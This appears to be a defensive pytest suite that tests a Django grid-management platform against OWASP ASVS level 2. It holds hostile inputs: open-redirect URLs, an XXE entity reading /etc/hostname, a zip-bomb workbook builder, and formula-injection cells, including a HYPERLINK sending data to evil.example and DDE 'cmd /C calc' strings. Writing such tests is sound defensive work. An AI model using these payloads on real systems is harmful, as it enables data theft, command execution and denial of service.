"""Beyond the tester's list: the platform tried against OWASP ASVS 4.0 level 2.

Each test is one attack from the checklist, replayed against the running application: open
redirects after log-in, user enumeration, session fixation, clickjacking, hostile uploads (zip
bombs, XML external entities), formula injection through exports, mass assignment through the
API, stack traces in error pages, the DEBUG default, the password policy and API tokens.
(CSRF on every state-changing view and IDOR through every URL are walked in
test_every_url_every_role.py.)
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
import zipfile
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.contrib.auth.password_validation import validate_password
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpRequest, HttpResponse
from django.test import Client
from django.urls import path

from wangge import urls as wangge_urls
from wangge.core.testing import PASSWORD, SampleDistrict

pytestmark = pytest.mark.django_db

OFF_SITE = [
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "https:evil.example",
    "http://testserver@evil.example/",
    "javascript:alert(1)",
]


def _log_in(client: Client, username: str, password: str, query: str = "") -> Any:
    return client.post(f"/login/{query}", {"username": username, "password": password})


# -- V3 session management, V2 authentication ---------------------------------------------------


@pytest.mark.parametrize("target", OFF_SITE)
def test_login_next_never_leaves_the_site(sample: SampleDistrict, target: str):
    from urllib.parse import quote

    response = _log_in(Client(), "grid", PASSWORD, f"?next={quote(target)}")
    assert response.status_code == 302
    location = urlsplit(response["Location"])
    assert not location.netloc and not location.scheme, response["Location"]
    assert not response["Location"].startswith(("//", "/\\", "\\"))


@pytest.mark.parametrize("target", OFF_SITE)
def test_language_switch_next_never_leaves_the_site(target: str):
    response = Client().post("/i18n/setlang/", {"language": "en", "next": target})
    assert response.status_code == 302
    location = urlsplit(response["Location"])
    assert not location.netloc and not location.scheme, response["Location"]


def test_login_does_not_tell_which_usernames_exist(sample: SampleDistrict):
    wrong_password = _log_in(Client(), "grid", "not-the-password-1")
    no_such_user = _log_in(Client(), "no-such-user", "not-the-password-1")
    assert wrong_password.status_code == no_such_user.status_code == 200
    assert wrong_password.context["form"].errors == no_such_user.context["form"].errors
    # and an inactive account answers like a wrong password, not "this account is disabled"
    user = sample.users["grid"]
    user.is_active = False
    user.save()
    inactive = _log_in(Client(), "grid", PASSWORD)
    assert inactive.status_code == 200
    assert inactive.context["form"].errors == no_such_user.context["form"].errors


def test_session_id_is_replaced_at_login(sample: SampleDistrict):
    """Session fixation: an id planted before log-in (e.g. on a shared office PC) is worthless."""
    from django.conf import settings
    from django.contrib.sessions.backends.db import SessionStore

    planted = SessionStore()
    planted["planted"] = True
    planted.create()
    client = Client()
    client.cookies[settings.SESSION_COOKIE_NAME] = str(planted.session_key)
    assert _log_in(client, "grid", PASSWORD).status_code == 302
    new_key = client.cookies[settings.SESSION_COOKIE_NAME].value
    assert new_key != planted.session_key
    attacker = Client()
    attacker.cookies[settings.SESSION_COOKIE_NAME] = str(planted.session_key)
    assert attacker.get("/api/persons").status_code == 401


def test_logout_ends_the_session_on_the_server(sample: SampleDistrict):
    from django.conf import settings

    client = Client()
    assert _log_in(client, "grid", PASSWORD).status_code == 302
    stolen = client.cookies[settings.SESSION_COOKIE_NAME].value
    client.post("/logout/")
    thief = Client()
    thief.cookies[settings.SESSION_COOKIE_NAME] = stolen
    assert thief.get("/api/persons").status_code == 401


def test_password_policy_refuses_short_common_and_numeric_passwords(sample: SampleDistrict):
    user = sample.users["grid"]
    for weak in ["short-1", "password1234", "123456789012"]:
        with pytest.raises(ValidationError):
            validate_password(weak, user)
    validate_password("网格-长一点的口令-2026", user)


def test_clickjacking_is_refused_by_header(sample: SampleDistrict):
    client = Client()
    client.force_login(sample.users["grid"])
    for page in ["/login/", "/report/", "/admin/login/", "/", "/api/persons"]:
        response = (client if page in ("/", "/api/persons") else Client()).get(page, follow=True)
        assert response["X-Frame-Options"] == "DENY", page
        assert "frame-ancestors 'none'" in response["Content-Security-Policy"], page


# -- V14 configuration, V7 errors ----------------------------------------------------------------


def test_debug_is_off_unless_asked_for():
    env = {k: v for k, v in os.environ.items() if k != "WANGGE_DEBUG"}
    env["DJANGO_SETTINGS_MODULE"] = "wangge.settings"
    out = subprocess.run(
        [
            sys.executable,
            "-c",
            "import django; django.setup(); from django.conf import settings; "
            "print(settings.DEBUG)",
        ],
        env=env,
        capture_output=True,
        text=True,
        check=True,
    )
    assert out.stdout.strip() == "False"


def _boom(request: HttpRequest) -> HttpResponse:
    raise RuntimeError("secret-internal-detail /srv/wangge/settings.py")


urlpatterns = [path("boom/", _boom), path("api/boom", _boom), *wangge_urls.urlpatterns]
handler500 = "wangge.core.views.server_error"


@pytest.mark.urls(__name__)
def test_an_error_page_shows_no_stack_trace(sample: SampleDistrict):
    client = Client(raise_request_exception=False)
    client.force_login(sample.users["admin"])
    for url in ["/boom/", "/api/boom"]:
        response = client.get(url)
        assert response.status_code == 500
        body = response.content.decode()
        for leak in ["secret-internal-detail", "Traceback", "settings.py", "RuntimeError"]:
            assert leak not in body, (url, leak)


# -- V12 files and resources ---------------------------------------------------------------------


def _xlsx(sheet_xml: bytes, *, inflate_to: int = 0) -> bytes:
    """A minimal workbook; `inflate_to` pads the sheet with that many bytes of spaces (a zip
    bomb: a few hundred KB that inflate to hundreds of MB)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats'
            '-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
            'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml'
            '.worksheet+xml"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>",
        )
        archive.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml'
            '/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
            "</workbook>",
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>",
        )
        if inflate_to:
            info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
            info.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(info, "w", force_zip64=True) as handle:
                handle.write(sheet_xml[: -len(b"</worksheet>")])
                chunk = b" " * (1024 * 1024)
                for _ in range(inflate_to // len(chunk)):
                    handle.write(chunk)
                handle.write(b"</worksheet>")
        else:
            archive.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return buffer.getvalue()


def _sheet(rows: list[list[str]], doctype: str = "") -> bytes:
    cells = "".join(
        "<row>" + "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in row) + "</row>"
        for row in rows
    )
    return (
        f'<?xml version="1.0"?>{doctype}<worksheet xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><sheetData>{cells}</sheetData></worksheet>'
    ).encode()


HOSTILE_ENTITY = (
    '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/hostname">'
    '<!ENTITY lol "lollollollollollollollollollol">]>'
)


def _uploads(sample: SampleDistrict) -> list[tuple[str, str, str]]:
    """(role, URL, form field) of every page that reads an uploaded spreadsheet."""
    return [
        ("community", "/imports/new/", "ledgers"),
        ("street", "/cases/import/", "file"),
    ]


def test_a_zip_bomb_is_refused_before_it_is_inflated(sample: SampleDistrict, settings: Any):
    bomb = _xlsx(_sheet([["姓名", "联系电话"]]), inflate_to=300 * 1024 * 1024)
    assert len(bomb) < 2 * 1024 * 1024
    for role, url, field in _uploads(sample):
        client = Client()
        client.force_login(sample.users[role])
        response = client.post(url, {field: SimpleUploadedFile("台账.xlsx", bomb)}, follow=True)
        assert response.status_code in (200, 400), url
        assert "压缩炸弹" in response.content.decode(), url


def test_xml_entities_in_a_workbook_are_not_resolved(sample: SampleDistrict):
    from pathlib import Path

    from wangge.core.tabular import read_sheets

    hostname = Path("/etc/hostname")
    secret = hostname.read_text().strip() if hostname.exists() else ""
    workbook = _xlsx(_sheet([["姓名", "地址"], ["&xxe;", "&lol;"]], HOSTILE_ENTITY))
    try:
        sheets = read_sheets("x.xlsx", data=workbook)
    except Exception:  # noqa: BLE001 — refusing the file is as good as ignoring the entity
        return
    text = repr([s.rows for s in sheets])
    assert not secret or secret not in text
    assert "lollollol" not in text


def test_exports_do_not_carry_formulas_from_uploaded_cells(sample: SampleDistrict):
    """CSV/formula injection: a ledger cell `=HYPERLINK(…)` (or starting + - @) comes back in
    the rejected-rows workbook as text, never as a formula the office's Excel would run."""
    import openpyxl

    from wangge.fusion.services import Upload, rejected_rows_xlsx, stage_batch

    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"点击")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    import csv

    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(["姓名", "联系电话", "现居住地址"])
    writer.writerows([h, "1390000", h] for h in hostile)
    ledger = text.getvalue().encode()
    street = sample.users["street"]
    batch = stage_batch(street, [Upload("台账.csv", ledger)])
    workbook = openpyxl.load_workbook(io.BytesIO(rejected_rows_xlsx(street, batch.pk)))
    values = [c for row in workbook.active.iter_rows() for c in row]
    assert any("HYPERLINK" in str(c.value) for c in values)
    for cell in values:
        assert cell.data_type != "f", cell.value
        assert not str(cell.value or "").startswith(("=", "+", "-", "@")), cell.value


# -- V5 input: mass assignment; V13 API -----------------------------------------------------------


def test_extra_fields_in_a_json_body_are_refused_or_ignored(sample: SampleDistrict):
    from wangge.cases.models import Case
    from wangge.cases.testing import build_sample_cases

    build_sample_cases(sample)
    client = Client()
    client.force_login(sample.users["grid"])
    before = set(Case.objects.values_list("pk", flat=True))
    body = {
        "title": "路灯不亮",
        "category": "H01",
        "lon": 116.405,
        "lat": 39.905,
        "status": "closed",
        "reporter_user": sample.users["admin"].pk,
        "reporter_user_id": sample.users["admin"].pk,
        "department": 1,
        "number": "20990101000001",
        "id": 1,
    }
    response = client.post("/api/cases/", body, "application/json")
    assert response.status_code in (200, 201, 422), response.content
    made = Case.objects.exclude(pk__in=before)
    if response.status_code == 422:
        assert not made.exists()
        return
    case = made.get()
    assert case.reporter_user_id == sample.users["grid"].pk
    assert case.number != "20990101000001" and case.status != "closed"


def test_api_tokens_are_stored_hashed_and_die_when_revoked(sample: SampleDistrict):
    from wangge.access.models import ApiToken
    from wangge.access.services import create_api_token

    user = sample.users["grid"]
    token = create_api_token(user, user, "测试")
    assert token.startswith("wg_") and len(token) > 40
    stored = ApiToken.objects.filter(user=user).values().get()
    assert token not in repr(stored)  # only a digest and a short prefix
    auth = {"Authorization": f"Bearer {token}"}
    assert Client().get("/api/persons", headers=auth).status_code == 200
    assert Client().get(f"/api/persons?api_key={token}").status_code == 401  # never in a URL
    # someone else's token cannot be minted by a non-admin
    with pytest.raises(Exception, match="区网格中心"):
        create_api_token(user, sample.users["street"], "偷")
    user.is_active = False
    user.save()
    assert Client().get("/api/persons", headers=auth).status_code == 401
    user.is_active = True
    user.save()
    ApiToken.objects.filter(user=user).update(revoked=True)
    assert Client().get("/api/persons", headers=auth).status_code == 401
